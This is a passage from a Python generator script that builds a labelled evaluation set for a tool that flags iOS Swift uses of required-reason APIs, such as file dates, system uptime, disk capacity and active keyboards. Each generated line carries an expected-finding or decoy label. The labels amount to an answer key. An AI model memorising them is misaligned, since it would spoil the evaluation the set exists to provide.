            ("    }", None, None),
            ("}", None, None),
        ],
        "App/Diagnostics/SessionClock.swift": [
            ("import Foundation", None, None),
            ("", None, None),
            ("final class SessionClock {", None, None),
            ("    private let started = Date()", None, None),
            ("", None, None),
            ("    func sessionLength() -> TimeInterval {", None, None),
            ("        Date().timeIntervalSince(started)", "-", "wall-clock time is not boot time"),
            ("    }", None, None),
            ("", None, None),
            ("    func sinceBoot() -> TimeInterval {", None, None),
            ("        ProcessInfo.processInfo.systemUptime", REASON, "system boot time"),
            ("    }", None, None),
            ("", None, None),
            ("    func ticks() -> UInt64 {", None, None),
            ("        mach_absolute_time()", None, None),
            ("    }", None, None),
            ("}", None, None),
        ],
        "App/Editor/KeyboardLanguage.swift": [
            ("import UIKit", None, None),
            ("", None, None),
            ("final class KeyboardLanguage {", None, None),
            ("    func current(for field: UITextField) -> String? {", None, None),
            ("        field.textInputMode?.primaryLanguage", "-", "the field's own input mode is not the keyboard list"),
            ("    }", None, None),
            ("", None, None),
            ("    func installed() -> [String] {", None, None),
            ("        UITextInputMode.activeInputModes.compactMap { $0.primaryLanguage }", REASON, "active keyboards"),
            ("    }", None, None),
            ("}", None, None),
        ],
        "App/Editor/DocumentInfo.swift": [
            ("import Foundation", None, None),
            ("import Photos", None, None),
            ("", None, None),
            ("struct TideDocument {", None, None),
            ("    var title: String", None, None),
            ("    var modificationDate: Date", None, None),
            ("    var creationDate: Date", None, None),
            ("}", None, None),
            ("", None, None),
            ("struct DocumentInfo {", None, None),
            ("    func subtitle(for document: TideDocument) -> String {", None, None),
            ('        "edited \\(document.modificationDate)"', "-", "a property of the app's own type named like a key"),
            ("    }", None, None),
            ("", None, None),
            ("    func captured(_ asset: PHAsset) -> Date? {", None, None),
            ("        asset.creationDate", "-", "a photo's capture date is not a file timestamp"),
            ("    }", None, None),
            ("", None, None),
            ("    func statistics(of documents: [TideDocument]) -> Int {", None, None),
            ("        documents.filter { $0.creationDate > Date.distantPast }.count", "-", "the app's own creation dates"),
            ("    }", None, None),
            ("", None, None),
            ("    func fileAge(at path: String) throws -> Date? {", None, None),
            ("        let attributes = try FileManager.default.attributesOfItem(atPath: path)", None, None),
            ("        return attributes[.modificationDate] as? Date", REASON, "file modification date attribute"),
            ("    }", None, None),
            ("}", None, None),
        ],
    }
    # More modules, each using two required-reason categories through another API.
    # (function, setup line, returned expression, note, whether the setup line is
    # where the API is used).
    uses = [
        ("fileAttributes", "let attributes = try FileManager.default.attributesOfItem(atPath: path)", "attributes[.creationDate] as? Date", "file creation date attribute", False),
        ("uptime", "let info = ProcessInfo.processInfo", "info.systemUptime", "system uptime", False),
        ("statTime", "var info = Darwin.stat()", "stat(path, &info) == 0 ? info.st_mtimespec.tv_sec : 0", "stat() of a file", False),
        ("totalCapacity", "let url = URL(fileURLWithPath: path)", "try url.resourceValues(forKeys: [.volumeTotalCapacityKey]).volumeTotalCapacity", "volume capacity key", False),
        ("freeSize", "let attributes = try FileManager.default.attributesOfFileSystem(forPath: path)", "attributes[.systemFreeSize] as? Int64", "file system free size", False),
        ("machTime", "let start = mach_absolute_time()", "Double(start) / 1e9", "mach_absolute_time()", True),
        ("keyboards", "let modes = UITextInputMode.activeInputModes", "modes.count", "active keyboards", True),
        ("accessDate", "let url = URL(fileURLWithPath: path)", "try url.resourceValues(forKeys: [.contentAccessDateKey]).contentAccessDate", "content access date key", False),
    ]
    # Two different categories per module: only a category's first use in a file is
    # reported.
    modules = [("SyncQueue", 0, 1), ("TideImporter", 1, 4), ("ExportService", 2, 6),
               ("WidgetRefresher", 3, 7), ("BackupPlanner", 4, 5), ("OfflineMaps", 5, 0)]
    for module, first_use, second_use in modules:
        first, second = uses[first_use], uses[second_use]
        lines = [("import Foundation", None, None), ("import UIKit", None, None), ("", None, None),
                 (f"final class {module} {{", None, None)]
        for name, setup, use, note, in_setup in (first, second):
            lines.append((f"    func {name}(at path: String) throws -> Any? {{", None, None))
            lines.append((f"        {setup}", REASON if in_setup else None, note))
            lines.append((f"        return {use}", None if in_setup else REASON, note))
            lines.append(("    }", None, None))
            lines.append(("", None, None))
        lines.append(("    func stat(_ name: String) -> Int {", None, None))
        lines.append(("        name.count", None, None))
        lines.append(("    }", None, None))
        lines.append(("", None, None))
        lines.append(("    func report(_ counts: [String: Int]) -> Int {", None, None))
        lines.append(('        self.stat("syncs") + (counts["creationDate"] ?? 0)', "-", "the class's own stat() and a dictionary key"))
        lines.append(("    }", None, None))
        lines.append(("", None, None))
        lines.append(("    func remember(_ value: String) {", None, None))
        lines.append((f'        UserDefaults.standard.set(value, forKey: "{module}.last")', "-", "UserDefaults has a declared reason"))
        lines.append(("    }", None, None))
        lines.append(("}", None, None))
        files[f"App/Modules/{module}.swift"] = lines
    for path, lines in files.items():
        w = new(f"{root}/{path}")
        for text, label, note in lines:
            if label is None:
                w(text)
            elif label == "-":
                family = fam(TRACKING) if "Attribution" in path else fam(REASON)
                w.neg(family, text, note)
            else:
                w.pos(label, fam(label), text, note)


swift_manifest_private_app()


HEADER = """# Labelled lines of the data-upload evaluation set, generated by
# ../gen_data_upload.py (do not edit by hand; regenerate). A line labelled with a
# rule id must get a finding of that rule starting on it; a line labelled `-`
# must stay silent, as must every line without a row.
"""

if __name__ == "__main__":
    write_manifest(ROOT, files, HEADER)
